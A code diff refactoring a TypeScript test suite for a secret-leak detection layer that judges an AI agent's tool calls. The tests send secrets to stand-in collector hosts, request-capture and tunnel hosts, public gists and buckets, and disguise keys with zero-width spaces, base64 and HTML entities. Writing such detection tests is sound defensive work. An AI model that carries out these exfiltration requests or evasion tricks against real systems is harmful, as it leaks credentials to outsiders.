@@ -13,16 +13,17 @@ import {
   SecretsDataSchema,
   shannonEntropy,
 } from "../../layers/secrets.js";
-import type { Layer } from "../../layers/types.js";
 import { issueApiKey } from "../../src/crypto/api-key.js";
 import type { ProtectRequest } from "../../src/pipeline/facts.js";
-import { checkLayer, codesOf, pipeline } from "../helpers/layer-harness.js";
+import {
+  checkLayer,
+  codesOf,
+  expectLayerVerdict,
+  layerNamed,
+  layerVerdict,
+} from "../helpers/layer-harness.js";
 
-function layer(): Layer {
-  const found = pipeline().layers.find((l) => l.name === "secrets");
-  assert.ok(found, "the registry has a secrets layer");
-  return found;
-}
+const layer = layerNamed("secrets");
 
 /** Deterministic fake key material: every test run sees the same "random" strings. */
 function fake(length: number, alphabet: string, seed: number): string {
@@ -44,22 +45,6 @@ const UPPER32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
 function githubToken(prefix: string, seed: number): string {
   const body = fake(30, ALNUM, seed);
   return `${prefix}${body}${base62Of(crc32(body), 6)}`;
-}
-
-function verdict(request: ProtectRequest): "BLOCK" | "WARN" | "ALLOW" {
-  const findings = checkLayer(layer(), request);
-  if (findings.some((f) => f.severity === "BLOCK" && f.confidence >= 0.5)) return "BLOCK";
-  if (findings.some((f) => f.confidence >= 0.3)) return "WARN";
-  return "ALLOW";
-}
-
-function expectVerdict(request: ProtectRequest, expected: "BLOCK" | "WARN" | "ALLOW"): void {
-  const findings = checkLayer(layer(), request);
-  assert.equal(
-    verdict(request),
-    expected,
-    `${JSON.stringify(request).slice(0, 300)} → ${JSON.stringify(findings.map((f) => [f.code, f.severity, f.evidence]))}`,
-  );
 }
 
 function email(content: string): ProtectRequest {
@@ -187,13 +172,13 @@ describe("layer > secrets", () => {
   describe("provider formats sent outside", () => {
     for (const [name, sample] of PROVIDER_SAMPLES) {
       test(`BLOCKs a ${name} in an e-mail to an outside address`, () => {
-        expectVerdict(email(`Here you go:\n${sample}\nthanks`), "BLOCK");
+        expectLayerVerdict(layer, email(`Here you go:\n${sample}\nthanks`), "BLOCK");
       });
     }
 
     test("evidence is masked: never the secret itself", () => {
       for (const [, sample] of PROVIDER_SAMPLES) {
-        for (const f of checkLayer(layer(), email(sample))) {
+        for (const f of checkLayer(layer, email(sample))) {
           assert.ok(f.evidence !== undefined && f.evidence.length <= 120);
           assert.ok(!f.evidence.includes(sample.slice(8, 24)), `${f.evidence} leaks ${sample}`);
         }
@@ -201,8 +186,8 @@ describe("layer > secrets", () => {
     });
 
     test("a valid GitHub checksum raises confidence above a made-up token's", () => {
-      const real = checkLayer(layer(), email(githubToken("ghp_", 1)))[0];
-      const madeUp = checkLayer(layer(), email(`ghp_${fake(36, ALNUM, 2)}`))[0];
+      const real = checkLayer(layer, email(githubToken("ghp_", 1)))[0];
+      const madeUp = checkLayer(layer, email(`ghp_${fake(36, ALNUM, 2)}`))[0];
       assert.ok(real && madeUp);
       assert.ok(real.confidence > madeUp.confidence, `${real.confidence} vs ${madeUp.confidence}`);
       assert.match(real.message, /checksum valid/);
@@ -212,7 +197,7 @@ describe("layer > secrets", () => {
   describe("severity by where the secret goes", () => {
     test("BLOCKs a key posted to a public channel as a public exposure", () => {
       assert.deepEqual(
-        codesOf(layer(), { action: "post_message", target: "#public-community", content: STRIPE }),
+        codesOf(layer, { action: "post_message", target: "#public-community", content: STRIPE }),
         ["SECRET_PUBLIC_EXPOSURE"],
       );
     });
@@ -224,49 +209,59 @@ describe("layer > secrets", () => {
         params: { method: "POST" },
         content: `cfg\n${STRIPE}`,
       };
-      assert.deepEqual(codesOf(layer(), request), ["SECRET_PUBLIC_EXPOSURE"]);
+      assert.deepEqual(codesOf(layer, request), ["SECRET_PUBLIC_EXPOSURE"]);
     });
 
     test("BLOCKs a key written under a web root", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "write_file", target: "public/app.js", content: `const k = "${STRIPE}";` },
         "BLOCK",
       );
     });
 
     test("BLOCKs a key in the query string of a request to another host", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "http_request", target: `https://collect.example.net/?k=${STRIPE}` },
         "BLOCK",
       );
     });
 
     test("WARNs on a key pasted into a prompt", () => {
-      assert.deepEqual(codesOf(layer(), { action: "llm_prompt", content: `why 401? ${STRIPE}` }), [
+      assert.deepEqual(codesOf(layer, { action: "llm_prompt", content: `why 401? ${STRIPE}` }), [
         "SECRET_IN_PROMPT",
       ]);
-      expectVerdict({ action: "llm_prompt", content: `why 401? ${STRIPE}` }, "WARN");
+      expectLayerVerdict(layer, { action: "llm_prompt", content: `why 401? ${STRIPE}` }, "WARN");
     });
 
     test("WARNs on a key in an internal note or a notes file", () => {
-      assert.deepEqual(codesOf(layer(), { action: "create_note", content: STRIPE }), [
+      assert.deepEqual(codesOf(layer, { action: "create_note", content: STRIPE }), [
         "SECRET_IN_NOTE",
       ]);
-      expectVerdict({ action: "write_file", target: "notes/rotation.md", content: STRIPE }, "WARN");
+      expectLayerVerdict(
+        layer,
+        { action: "write_file", target: "notes/rotation.md", content: STRIPE },
+        "WARN",
+      );
     });
 
     test("WARNs on credentials written into a ticket or wiki tool", () => {
       const url = "postgres://svc:Xk9pLm2Qw8Rt4Yz7@db.internal.example:5432/app";
       assert.deepEqual(
-        codesOf(layer(), { action: "jira_add_comment", target: "OPS-1", content: url }),
+        codesOf(layer, { action: "jira_add_comment", target: "OPS-1", content: url }),
         ["SECRET_IN_NOTE"],
       );
-      expectVerdict({ action: "confluence_update_page", target: "Runbook", content: url }, "WARN");
+      expectLayerVerdict(
+        layer,
+        { action: "confluence_update_page", target: "Runbook", content: url },
+        "WARN",
+      );
     });
 
     test("WARNs on a key hard-coded in source the agent writes", () => {
       assert.deepEqual(
-        codesOf(layer(), {
+        codesOf(layer, {
           action: "write_file",
           target: "src/pay.py",
           content: `stripe.api_key = "${STRIPE}"`,
@@ -281,28 +276,32 @@ describe("layer > secrets", () => {
         target: "scripts/report.py",
         content: `engine = create_engine("postgresql://report:${fake(18, ALNUM, 61)}@db.prod.example.com/sales")`,
       };
-      assert.deepEqual(codesOf(layer(), request), ["SECRET_HARDCODED"]);
-      const [finding] = checkLayer(layer(), request);
+      assert.deepEqual(codesOf(layer, request), ["SECRET_HARDCODED"]);
+      const [finding] = checkLayer(layer, request);
       assert.ok(finding && finding.severity === "WARN" && finding.confidence < 0.4);
     });
 
     test("says nothing when a key is written where keys belong (.env, secret stores)", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "write_file", target: ".env", content: `STRIPE_KEY=${STRIPE}` },
         "ALLOW",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "write_file", target: "k8s/payments-secret.yaml", content: `key: ${STRIPE}` },
         "ALLOW",
       );
     });
 
     test("says nothing about keys coming in: a file read or a tool result is not a leak", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "read_file", target: "config/.env", content: `STRIPE_KEY=${STRIPE}` },
         "ALLOW",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "tool_output", target: "search", content: `leaked: ${STRIPE}` },
         "ALLOW",
       );
@@ -310,7 +309,8 @@ describe("layer > secrets", () => {
 
     test("says nothing when a key is sent to the provider that issued it", () => {
       const token = githubToken("ghp_", 3);
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://api.github.com/user/repos",
@@ -318,7 +318,8 @@ describe("layer > secrets", () => {
         },
         "ALLOW",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "shell_exec",
           target: `curl -H 'Authorization: token ${token}' https://api.github.com/user`,
@@ -333,28 +334,40 @@ describe("layer > secrets", () => {
         target: "https://collector.example.net/v1",
         params: { method: "GET", headers: { Authorization: `token ${fake(40, URLSAFE, 5)}` } },
       };
-      assert.deepEqual(codesOf(layer(), request), ["SECRET_TO_UNRELATED_HOST"]);
-      expectVerdict(request, "WARN");
+      assert.deepEqual(codesOf(layer, request), ["SECRET_TO_UNRELATED_HOST"]);
+      expectLayerVerdict(layer, request, "WARN");
     });
 
     test("WARNs rather than BLOCKs on a sign-in token inside a link meant for its recipient", () => {
       const jwt = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from('{"sub":"u1","exp":1999999999}').toString("base64url")}.${fake(43, URLSAFE, 9)}`;
-      expectVerdict(email(`Sign in: https://app.example.com/magic?token=${jwt}`), "WARN");
-      expectVerdict(email(`Your session: ${jwt}`), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        email(`Sign in: https://app.example.com/magic?token=${jwt}`),
+        "WARN",
+      );
+      expectLayerVerdict(layer, email(`Your session: ${jwt}`), "BLOCK");
     });
   });
 
   describe("disguised secrets", () => {
     test("BLOCKs a key split by a zero-width space", () => {
-      expectVerdict(email(`use ${STRIPE.slice(0, 6)}\u200b${STRIPE.slice(6)}`), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        email(`use ${STRIPE.slice(0, 6)}\u200b${STRIPE.slice(6)}`),
+        "BLOCK",
+      );
     });
 
     test("BLOCKs a key sent base64-encoded", () => {
-      expectVerdict(email(`blob: ${Buffer.from(`token ${STRIPE}`).toString("base64")}`), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        email(`blob: ${Buffer.from(`token ${STRIPE}`).toString("base64")}`),
+        "BLOCK",
+      );
     });
 
     test("BLOCKs a key written with HTML entities", () => {
-      expectVerdict(email(`key: sk&#95;live&#95;${STRIPE.slice(8)}`), "BLOCK");
+      expectLayerVerdict(layer, email(`key: sk&#95;live&#95;${STRIPE.slice(8)}`), "BLOCK");
     });
   });
 
@@ -390,7 +403,7 @@ describe("layer > secrets", () => {
     ];
     for (const [name, text] of allowed) {
       test(`ALLOWs ${name} in an e-mail`, () => {
-        expectVerdict(email(text), "ALLOW");
+        expectLayerVerdict(layer, email(text), "ALLOW");
       });
     }
   });
@@ -400,17 +413,21 @@ describe("layer > secrets", () => {
     const env = `APP_ENV=prod\nGITHUB_TOKEN=${GH}`;
 
     test("BLOCKs a gist or paste tool as public, whatever its flags", () => {
-      expectVerdict({ action: "create_gist", params: { public: true, content: env } }, "BLOCK");
-      expectVerdict({ action: "paste_create", params: { body: env } }, "BLOCK");
+      expectLayerVerdict(
+        layer,
+        { action: "create_gist", params: { public: true, content: env } },
+        "BLOCK",
+      );
+      expectLayerVerdict(layer, { action: "paste_create", params: { body: env } }, "BLOCK");
       assert.deepEqual(
-        codesOf(layer(), { action: "create_gist", params: { public: true, content: env } }),
+        codesOf(layer, { action: "create_gist", params: { public: true, content: env } }),
         ["SECRET_PUBLIC_EXPOSURE"],
       );
     });
 
     test("a secret gist is still outside: BLOCK as sent outside, not as public", () => {
       assert.deepEqual(
-        codesOf(layer(), { action: "create_gist", params: { public: false, content: env } }),
+        codesOf(layer, { action: "create_gist", params: { public: false, content: env } }),
         ["SECRET_SENT_OUTSIDE"],
       );
     });
@@ -420,9 +437,10 @@ describe("layer > secrets", () => {
         action: "s3_put_object",
         params: { Bucket: "site", Key: "app.env", ACL: acl, Body: env },
       });
-      expectVerdict(put("public-read"), "BLOCK");
-      expectVerdict(put("private"), "WARN");
-      expectVerdict(
+      expectLayerVerdict(layer, put("public-read"), "BLOCK");
+      expectLayerVerdict(layer, put("private"), "WARN");
+      expectLayerVerdict(
+        layer,
         {
           action: "gcs_write_object",
           params: { bucket: "b", predefinedAcl: "publicRead", data: env },
@@ -438,57 +456,81 @@ describe("layer > secrets", () => {
         { general_access: "Anyone with the link" },
         { visibility: "PUBLIC" },
       ]) {
-        expectVerdict({ action: "set_sharing", params: { ...params, note: env } }, "BLOCK");
+        expectLayerVerdict(
+          layer,
+          { action: "set_sharing", params: { ...params, note: env } },
+          "BLOCK",
+        );
       }
     });
 
     test("a ticket or comment is internal unless its flags or its parties say otherwise", () => {
       const content = `token for the runner: ${GH}`;
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "create_ticket", content, params: { visibility: "internal" } },
         "WARN",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "create_ticket", content, params: { visibility: "external" } },
         "BLOCK",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "add_comment", content, params: { comment_visibility: "public_reply" } },
         "BLOCK",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "create_ticket", content, params: { cc: "someone.private@gmail.com" } },
         "BLOCK",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "create_ticket", target: "help.vendor-portal.example", content },
         "BLOCK",
       );
-      expectVerdict({ action: "create_ticket", target: "jira.acme.example", content }, "WARN");
+      expectLayerVerdict(
+        layer,
+        { action: "create_ticket", target: "jira.acme.example", content },
+        "WARN",
+      );
     });
 
     test("BLOCKs secrets sent to telemetry, analytics and error trackers", () => {
       const dsn = `postgres://svc:${fake(16, ALNUM, 202)}@db.prod.example.com/app`;
-      expectVerdict({ action: "sentry_capture_message", params: { extra: { dsn } } }, "BLOCK");
-      expectVerdict({ action: "track_event", params: { properties: { token: GH } } }, "BLOCK");
+      expectLayerVerdict(
+        layer,
+        { action: "sentry_capture_message", params: { extra: { dsn } } },
+        "BLOCK",
+      );
+      expectLayerVerdict(
+        layer,
+        { action: "track_event", params: { properties: { token: GH } } },
+        "BLOCK",
+      );
     });
 
     test("BLOCKs an unknown tool pointed at an outside URL, WARNs on an inside one", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "sync_records",
           params: { endpoint: "https://ingest.collector.example/v1", blob: env },
         },
         "BLOCK",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "sync_records", params: { endpoint: "http://ingest.corp:9000/v1", blob: env } },
         "WARN",
       );
     });
 
     test("a commit through a hosted-git tool leaves the machine", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "github_create_or_update_file",
           params: { owner: "acme", repo: "web", path: ".env", content: env },
@@ -499,7 +541,7 @@ describe("layer > secrets", () => {
 
     test("WARNs on a key given to a model through an unknown tool name, as for a prompt", () => {
       assert.deepEqual(
-        codesOf(layer(), {
+        codesOf(layer, {
           action: "openai_chat_create",
           params: { messages: [{ role: "user", content: `why 401? ${GH}` }] },
         }),
@@ -508,7 +550,11 @@ describe("layer > secrets", () => {
     });
 
     test("a file name is not a destination host", () => {
-      expectVerdict({ action: "render_template", target: "report.yaml", content: env }, "WARN");
+      expectLayerVerdict(
+        layer,
+        { action: "render_template", target: "report.yaml", content: env },
+        "WARN",
+      );
     });
   });
 
@@ -516,7 +562,8 @@ describe("layer > secrets", () => {
     const key = `sk_live_${fake(24, ALNUM, 210)}`;
 
     test("says nothing about a secret stored through a secret manager's API", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://secretsmanager.eu-west-1.amazonaws.com/",
@@ -524,7 +571,8 @@ describe("layer > secrets", () => {
         },
         "ALLOW",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "http://vault.corp:8200/v1/secret/data/pay",
@@ -535,15 +583,21 @@ describe("layer > secrets", () => {
     });
 
     test("says nothing about a secret written through a secret manager's own tool", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "vault_kv_put", params: { path: "payments/stripe", data: { api_key: key } } },
         "ALLOW",
       );
-      expectVerdict({ action: "onepassword_create_item", params: { password: key } }, "ALLOW");
+      expectLayerVerdict(
+        layer,
+        { action: "onepassword_create_item", params: { password: key } },
+        "ALLOW",
+      );
     });
 
     test("a vault-looking host outside the organisation is not a secret store", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://vault.storage-cheap.example/v1/secret/data/x",
@@ -554,7 +608,8 @@ describe("layer > secrets", () => {
     });
 
     test("a credential-named field inside a POST body is payload, not authentication", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://collect.example-analytics.io/e",
@@ -562,7 +617,8 @@ describe("layer > secrets", () => {
         },
         "BLOCK",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://api.partner.example/v1/orders",
@@ -575,7 +631,8 @@ describe("layer > secrets", () => {
     test("BLOCKs a credential presented to a request-capture or tunnel host", () => {
       const headers = { Authorization: `Bearer ${githubToken("ghp_", 216)}` };
       for (const host of ["webhook.site", "eo1x.m.pipedream.net", "abc123.ngrok-free.app"]) {
-        expectVerdict(
+        expectLayerVerdict(
+          layer,
           {
             action: "http_request",
             target: `https://${host}/x`,
@@ -587,7 +644,8 @@ describe("layer > secrets", () => {
     });
 
     test("ALLOWs a bearer token presented to an internal service", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "http://billing.internal:8080/api/sync",
@@ -604,9 +662,10 @@ describe("layer > secrets", () => {
         `SELECT id FROM keys k WHERE k.api_key = '${value}'`,
         `UPDATE s SET revoked = 1 WHERE x = 1 OR session_token = '${value}'`,
       ]) {
-        expectVerdict({ action: "sql_query", content: sql }, "ALLOW");
+        expectLayerVerdict(layer, { action: "sql_query", content: sql }, "ALLOW");
       }
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "sql_query", content: `UPDATE cfg SET api_key = '${fake(24, ALNUM, 215)}';` },
         "WARN",
       );
@@ -616,18 +675,27 @@ describe("layer > secrets", () => {
   describe("more credential formats", () => {
     test("BLOCKs a service-account key file even with its private key cut off", () => {
       const json = `{"type": "service_account", "private_key_id": "${fake(40, HEX, 220)}", "private_key": "-----BEGIN PRIVATE KEY-----\\n…", "client_email": "x@p.iam.gserviceaccount.com"}`;
-      expectVerdict(email(json), "BLOCK");
-      expectVerdict(email(`{"private_key_id": "${fake(40, HEX, 220)}", "kid": 1}`), "ALLOW");
+      expectLayerVerdict(layer, email(json), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        email(`{"private_key_id": "${fake(40, HEX, 220)}", "kid": 1}`),
+        "ALLOW",
+      );
     });
 
     test("BLOCKs Azure Service Bus keys and storage keys of any length", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         email(
           `Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=Root;SharedAccessKey=${fake(43, B64, 221)}=`,
         ),
         "BLOCK",
       );
-      expectVerdict(email(`AccountName=a;AccountKey=${fake(64, B64, 222)}==;`), "BLOCK");
+      expectLayerVerdict(
+        layer,
+        email(`AccountName=a;AccountKey=${fake(64, B64, 222)}==;`),
+        "BLOCK",
+      );
     });
 
     test("BLOCKs a Kubernetes Secret's data whichever order kubectl prints it in", () => {
@@ -635,14 +703,14 @@ describe("layer > secrets", () => {
       const first = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ndata:\n  pw: ${value}\n`;
       const last = `apiVersion: v1\ndata:\n  pw: ${value}\nkind: Secret\nmetadata:\n  name: db\n`;
       const json = `{"apiVersion":"v1","kind":"Secret","data":{"pw":"${value}"}}`;
-      for (const text of [first, last, json]) expectVerdict(email(text), "BLOCK");
+      for (const text of [first, last, json]) expectLayerVerdict(layer, email(text), "BLOCK");
     });
 
     test("ALLOWs a ConfigMap and a Secret template holding a placeholder", () => {
       const cm = `kind: ConfigMap\ndata:\n  FLAGS: ${Buffer.from("search,pricing").toString("base64")}\n`;
       const tpl = `kind: Secret\ndata:\n  password: ${Buffer.from("changeme").toString("base64")}\n`;
-      expectVerdict(email(cm), "ALLOW");
-      expectVerdict(email(tpl), "ALLOW");
+      expectLayerVerdict(layer, email(cm), "ALLOW");
+      expectLayerVerdict(layer, email(tpl), "ALLOW");
     });
 
     test("BLOCKs AI-provider keys, Teams webhooks and JWK private keys", () => {
@@ -652,19 +720,24 @@ describe("layer > secrets", () => {
         `https://acme.webhook.office.com/webhookb2/${fake(8, HEX, 226)}-aaaa-4bbb-8ccc-${fake(12, HEX, 227)}@${fake(8, HEX, 228)}-dddd-4eee-8fff-${fake(12, HEX, 229)}/IncomingWebhook/${fake(32, HEX, 230)}/${fake(8, HEX, 231)}-1111-4222-8333-${fake(12, HEX, 232)}`,
         `{"kty":"RSA","n":"${fake(60, URLSAFE, 233)}","e":"AQAB","d":"${fake(60, URLSAFE, 234)}"}`,
       ]) {
-        expectVerdict(email(text), "BLOCK");
+        expectLayerVerdict(layer, email(text), "BLOCK");
       }
     });
 
     test("ALLOWs a Firebase web config published with its page, BLOCKs the same key tweeted", () => {
       const key = `AIza${fake(35, URLSAFE, 240)}`;
       const page = `<script>const firebaseConfig = { apiKey: "${key}", authDomain: "a.firebaseapp.com" };</script>`;
-      expectVerdict({ action: "write_file", target: "public/index.html", content: page }, "ALLOW");
-      expectVerdict({ action: "post_tweet", content: `my key ${key}` }, "BLOCK");
+      expectLayerVerdict(
+        layer,
+        { action: "write_file", target: "public/index.html", content: page },
+        "ALLOW",
+      );
+      expectLayerVerdict(layer, { action: "post_tweet", content: `my key ${key}` }, "BLOCK");
     });
 
     test("ALLOWs the jwt.io example token", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         email(
           "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
         ),
@@ -675,9 +748,10 @@ describe("layer > secrets", () => {
     test("BLOCKs a real-looking password sent outside in other languages, not one kept local", () => {
       const pw = `${fake(8, ALNUM, 235)}#${fake(3, ALNUM, 236)}`;
       for (const word of ["Kennwort", "mot de passe", "contraseña", "senha", "wachtwoord"]) {
-        expectVerdict(email(`${word}: ${pw}`), "BLOCK");
+        expectLayerVerdict(layer, email(`${word}: ${pw}`), "BLOCK");
       }
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "write_file", target: "deploy.sh", content: `password=${pw}` },
         "ALLOW",
       );
@@ -686,8 +760,8 @@ describe("layer > secrets", () => {
     test("a .env dump counts every credential in it: two weak ones make a medium one", () => {
       const one = `DB_PASSWORD=${fake(7, ALNUM, 237)}1a`;
       const two = `${one}\nSMTP_PASSWORD=${fake(7, ALNUM, 238)}2b`;
-      expectVerdict({ action: "send_message", target: "@x", content: one }, "WARN");
-      expectVerdict({ action: "send_message", target: "@x", content: two }, "BLOCK");
+      expectLayerVerdict(layer, { action: "send_message", target: "@x", content: one }, "WARN");
+      expectLayerVerdict(layer, { action: "send_message", target: "@x", content: two }, "BLOCK");
     });
   });
 
@@ -699,11 +773,12 @@ describe("layer > secrets", () => {
     });
 
     test("WARNs on a password given in prose in an internal comment", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         note(`The bastion password until the reset next week: ${pw} (user ops)`),
         "WARN",
       );
-      expectVerdict(note(`db password is ${pw}`), "WARN");
+      expectLayerVerdict(layer, note(`db password is ${pw}`), "WARN");
     });
 
     test("BLOCKs a password given in prose sent outside, in several languages", () => {
@@ -713,7 +788,7 @@ describe("layer > secrets", () => {
         `la contraseña del router es ${pw}`,
         `The new passphrase for the backup archive is now ${pw}.`,
       ]) {
-        expectVerdict(email(sentence), "BLOCK");
+        expectLayerVerdict(layer, email(sentence), "BLOCK");
       }
     });
 
@@ -726,7 +801,7 @@ describe("layer > secrets", () => {
         `smtp.pw: ${pw}`,
         `ssh root@203.0.113.7 (pw: ${pw})`,
       ]) {
-        expectVerdict(email(text), "BLOCK");
+        expectLayerVerdict(layer, email(text), "BLOCK");
       }
     });
 
@@ -738,7 +813,7 @@ describe("layer > secrets", () => {
         "the pass rate: 98.5%",
         "credentials are rotated / audited monthly",
       ]) {
-        expectVerdict(email(text), "ALLOW");
+        expectLayerVerdict(layer, email(text), "ALLOW");
       }
     });
 
@@ -753,7 +828,7 @@ describe("layer > secrets", () => {
         "the password is correct, the account was locked.",
         "Password must contain: Upper-Lower-Digit",
       ]) {
-        expectVerdict(email(sentence), "ALLOW");
+        expectLayerVerdict(layer, email(sentence), "ALLOW");
       }
     });
   });
@@ -762,7 +837,8 @@ describe("layer > secrets", () => {
     const key = githubToken("ghp_", 311);
 
     test("BLOCKs a support ticket filed with a named vendor", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "create_support_ticket",
           params: { vendor: "Monitoring SaaS", subject: "Integration", body: `token: ${key}` },
@@ -770,7 +846,8 @@ describe("layer > secrets", () => {
         "BLOCK",
       );
       // The same ticket kept in the internal helpdesk only WARNs.
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "create_support_ticket",
           params: { subject: "Integration", body: `token: ${key}` },
@@ -780,7 +857,8 @@ describe("layer > secrets", () => {
     });
 
     test("BLOCKs a tool whose name says it deals with a vendor or partner", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "vendor_portal_message", params: { body: `use ${key} for the sync` } },
         "BLOCK",
       );
@@ -793,7 +871,7 @@ describe("layer > secrets", () => {
         { action: "add_reply", params: { site: "forum.example.net", body: `my token ${key}` } },
       ] as ProtectRequest[]) {
         assert.deepEqual(
-          codesOf(layer(), request),
+          codesOf(layer, request),
           ["SECRET_PUBLIC_EXPOSURE"],
           JSON.stringify(request),
         );
@@ -805,7 +883,8 @@ describe("layer > secrets", () => {
     const gh = githubToken("ghp_", 401);
 
     test("BLOCKs a provider token in a header to an outside host that is not its issuer", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://ingest.metrics-vendor.example/v1",
@@ -814,7 +893,7 @@ describe("layer > secrets", () => {
         "BLOCK",
       );
       assert.deepEqual(
-        codesOf(layer(), {
+        codesOf(layer, {
           action: "http_request",
           target: "https://ingest.metrics-vendor.example/v1",
           params: { method: "POST", headers: { Authorization: `token ${gh}` } },
@@ -828,7 +907,8 @@ describe("layer > secrets", () => {
         "https://api.github.com/repos/acme/app/issues",
         "https://github.acme-corp.com/api/v3/repos/acme/app/issues",
       ]) {
-        expectVerdict(
+        expectLayerVerdict(
+          layer,
           {
             action: "http_request",
             target,
@@ -837,7 +917,8 @@ describe("layer > secrets", () => {
           "ALLOW",
         );
       }
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://gitlab.example-corp.net/api/v4/projects/7/pipeline",
@@ -851,7 +932,8 @@ describe("layer > secrets", () => {
     });
 
     test("an unknown-issuer key presented to the host being called stays a WARN", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "http_request",
           target: "https://api.small-saas.example/v2/items",
@@ -866,8 +948,12 @@ describe("layer > secrets", () => {
         action: "bitwarden.send_item",
         params: { item: "deploy", note: `key ${STRIPE} until the migration` },
       };
-      assert.notEqual(verdict(request), "ALLOW");
-      expectVerdict({ action: "vault_kv_put", params: { path: "kv/app", value: STRIPE } }, "ALLOW");
+      assert.notEqual(layerVerdict(layer, request), "ALLOW");
+      expectLayerVerdict(
+        layer,
+        { action: "vault_kv_put", params: { path: "kv/app", value: STRIPE } },
+        "ALLOW",
+      );
     });
 
     test("BLOCKs a ticket comment whose visibility says public or customer-facing, with a qualifier", () => {
@@ -876,12 +962,14 @@ describe("layer > secrets", () => {
         "customer-facing",
         "shared_with_partners",
       ]) {
-        expectVerdict(
+        expectLayerVerdict(
+          layer,
           { action: "jira_comment", params: { issue: "OPS-1", visibility, body: `use ${gh}` } },
           "BLOCK",
         );
       }
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "jira_comment",
           params: { issue: "OPS-1", visibility: "internal (staff)", body: `use ${gh}` },
@@ -891,11 +979,13 @@ describe("layer > secrets", () => {
     });
 
     test("BLOCKs a page shared to the web or an issue on a repository named public", () => {
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         { action: "wiki.update_page", params: { share_to_web: true, body: `key ${STRIPE}` } },
         "BLOCK",
       );
-      expectVerdict(
+      expectLayerVerdict(
+        layer,
         {
           action: "gitlab.create_issue_note",
           params: { project: "acme/public-sdk", body: `repro with ${STRIPE}` },
@@ -913,7 +1003,11 @@ describe("layer > secrets", () => {
       ];
       for (const sep of ["\n", "\\n"]) {
         const text = `-----BEGIN OPENSSH PRIVATE KEY-----${sep}${body.join(sep)}${sep}-----END OPENSSH PRIVATE KEY-----`;
-        expectVerdict({ action: "discord_send", target: "#general", content: text }, "BLOCK");
+        expectLayerVerdict(
+          layer,
+          { action: "discord_send", target: "#general", content: text },
+          "BLOCK",
+        );
       }
     });
 
@@ -922,7 +1016,11 @@ describe("layer > secrets", () => {
         `docker login -u deploy -p ${fake(14, ALNUM, 407)} registry.example.io`,
         `smbclient //fs01/share -U backup%${fake(12, ALNUM, 408)}`,
       ]) {
-        expectVerdict({ action: "linkedin_post", content: `my setup: ${line}` }, "BLOCK");
+        expectLayerVerdict(
+          layer,
+          { action: "linkedin_post", content: `my setup: ${line}` },
+          "BLOCK",
+        );
       }
     });
   });
@@ -931,7 +1029,7 @@ describe("layer > secrets", () => {
     const piece = "ghp_ sk_live_ AKIA -----BEGIN eyJhbGciOi password= xoxb- ";
     const content = piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536);
     const started = process.hrtime.bigint();
-    checkLayer(layer(), email(content));
+    checkLayer(layer, email(content));
     const ms = Number(process.hrtime.bigint() - started) / 1e6;
     assert.ok(ms < 500, `took ${ms} ms`);
   });
